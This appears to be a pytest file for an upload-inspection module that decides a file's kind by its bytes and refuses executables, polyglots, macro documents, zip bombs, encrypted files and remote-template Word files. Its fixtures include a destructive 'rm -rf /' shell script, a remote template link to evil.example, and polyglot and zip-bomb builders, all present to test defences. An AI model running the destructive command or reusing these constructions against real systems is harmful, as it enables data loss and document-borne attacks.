"""What a file is, by its bytes; what pretends or harms is refused with a sentence."""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pytest

from nscl.documents import kinds
from nscl.documents.inspection import fitting_name, inspect
from nscl.documents.tests.conftest import docx, pdf
from nscl.shared.errors import DomainError

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
EXE = b"MZ\x90\x00" + b"\x00" * 200


def packed(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return out.getvalue()


def office(**parts: bytes) -> bytes:
    types = b"<Types><Override PartName='/word/document.xml' ContentType='x'/></Types>"
    return packed(**{"[Content_Types].xml": types, "word/document.xml": b"<w/>", **parts})


def macro_types() -> bytes:
    types = b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
    return packed(**{"[Content_Types].xml": types, "word/document.xml": b"<w/>"})


def encrypted() -> bytes:
    data = bytearray(office())
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def many_entries() -> bytes:
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 60_000, 60_000, 100, 100, 0)
    return b"PK\x03\x04" + b"\x00" * 300 + end


TEMPLATE = (
    b'<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" '
    b'TargetMode="External"/></Relationships>'
)
LOCAL = TEMPLATE.replace(b"http://evil.example/a.dotm", b"file:///C:/Normal.dotm").replace(b"http://x/", b"x/")
REFUSED = {
    "an EXE called DOCX": (EXE, "program"),
    "an ELF": (b"\x7fELF" + b"\x00" * 100, "program"),
    "a shell script": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "a PDF behind a PNG's beginning": (PNG + b"%PDF-1.4\n", "polyglot"),
    "a ZIP behind a PDF": (pdf("a") + packed(a=b"x"), "polyglot"),
    "a ZIP behind a picture": (PNG + packed(a=b"x"), "polyglot"),
    "a PDF inside a ZIP's head": (packed(**{"%PDF-1.4": b"x" * 50}), "polyglot"),
    "a program before a PDF": (b"var x = 1;\n" + pdf("a"), "polyglot"),
    "a DOCM's part": (office(**{"word/vbaProject.bin": b"x"}), "macro"),
    "a DOCM's type": (macro_types(), "macro"),
    "an old DOC with macros": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le") + "_VBA_PROJECT".encode("utf-16-le"),
        "macro",
    ),
    "a bomb": (office(**{"word/media/a.bin": b"\x00" * 50_000_000}), "bomb"),
    "a bomb by its directory": (many_entries(), "bomb"),
    "a template from elsewhere": (office(**{"word/_rels/settings.xml.rels": TEMPLATE}), "remote"),
    "a password": (encrypted(), "encrypted"),
    "an encrypted Office file": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"), "encrypted",
    ),
    "half a PDF": (pdf("a")[:200], "damaged"),
    "half a DOCX": (docx("a")[:2000], "damaged"),
    "a plain ZIP": (packed(a=b"x"), "kind"),
    "a web page": (b"<!DOCTYPE html><script>alert(1)</script>", "kind"),
    "a drawing with script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "kind"),
    "a RAR": (b"Rar!\x1a\x07\x00" + b"\x00" * 50, "kind"),
    "a film": (b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100, "kind"),
    "noise": (bytes(range(256)) * 4, "kind"),
}  # fmt: skip


@pytest.mark.parametrize(("content", "code"), REFUSED.values(), ids=REFUSED)
def test_refused(tmp_path: Path, content: bytes, code: str) -> None:
    path = tmp_path / "Quyết định.docx"
    path.write_bytes(content)
    with pytest.raises(DomainError) as refusal:
        inspect(path, kinds.DOCUMENT)
    assert refusal.value.code == code
    assert refusal.value.message.startswith("Tệp")
    assert "hãy" in refusal.value.message or "chỉ nhận" in refusal.value.message


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (pdf("a", "b"), "pdf"),
        (b"\xef\xbb\xbf" + pdf("a"), "pdf"),
        (docx("Quyết định"), "docx"),
        (packed(**{"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<x/>"}), "xlsx"),
        (packed(**{"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<x/>"}), "pptx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le"), "doc"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "Workbook".encode("utf-16-le"), "xls"),
        (PNG, "png"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 50, "jpg"),
        ("Kế hoạch năm 2026".encode(), "txt"),
        ("Kế hoạch năm 2026".encode("utf-16"), "txt"),
        ("Kế hoạch".encode("cp1258", "ignore"), "txt"),
        (office(**{"word/_rels/settings.xml.rels": LOCAL}), "docx"),
    ],
)  # fmt: skip
def test_taken(tmp_path: Path, content: bytes, code: str) -> None:
    (tmp_path / "a").write_bytes(content)
    assert inspect(tmp_path / "a", kinds.DOCUMENT).code == code


def test_a_place_takes_its_own_kinds_alone(tmp_path: Path) -> None:
    (tmp_path / "a.pdf").write_bytes(docx("x"))
    with pytest.raises(DomainError) as refusal:
        inspect(tmp_path / "a.pdf", kinds.SCAN)
    assert refusal.value.code == "kind"
    assert "Word (DOCX)" in refusal.value.message


def test_what_is_no_kind_at_all_is_told_what_the_place_takes(tmp_path: Path) -> None:
    file = tmp_path / "danh-sach.csv"
    file.write_bytes(bytes(range(256)) * 4)
    with pytest.raises(DomainError) as refused:
        inspect(file, kinds.TABLE)
    assert "ở đây chỉ nhận: Excel (XLSX), văn bản thuần (TXT)" in str(refused.value.message)
    assert "Word" not in str(refused.value.message)


def test_each_kind_has_its_limit_and_a_setting_moves_it(tmp_path: Path, settings: object) -> None:
    (tmp_path / "a").write_bytes(b"a" * (2 * 1024 * 1024))
    settings.UPLOAD_LIMITS_MB = {"txt": 1}  # type: ignore[attr-defined]
    with pytest.raises(DomainError) as refusal:
        inspect(tmp_path / "a", kinds.DOCUMENT)
    assert (refusal.value.code, "1 MB" in refusal.value.message) == ("too_large", True)


@pytest.mark.parametrize(
    ("name", "kind", "wanted"),
    [
        ("QĐ 12.docx", "docx", "QĐ 12.docx"), ("ảnh.JPG", "png", "ảnh.png"), ("ảnh.JPEG", "jpg", "ảnh.JPEG"),
        ("tệp 12.2026", "pdf", "tệp 12.2026.pdf"), ("cuoi.exe", "pdf", "cuoi.exe.pdf"), (".docx", "pdf", ".docx.pdf"),
        ("x" * 255, "pdf", "x" * 251 + ".pdf"),
    ],
)  # fmt: skip
def test_a_name_ends_as_the_file_is(name: str, kind: str, wanted: str) -> None:
    assert fitting_name(name, kinds.BY_CODE[kind]) == wanted
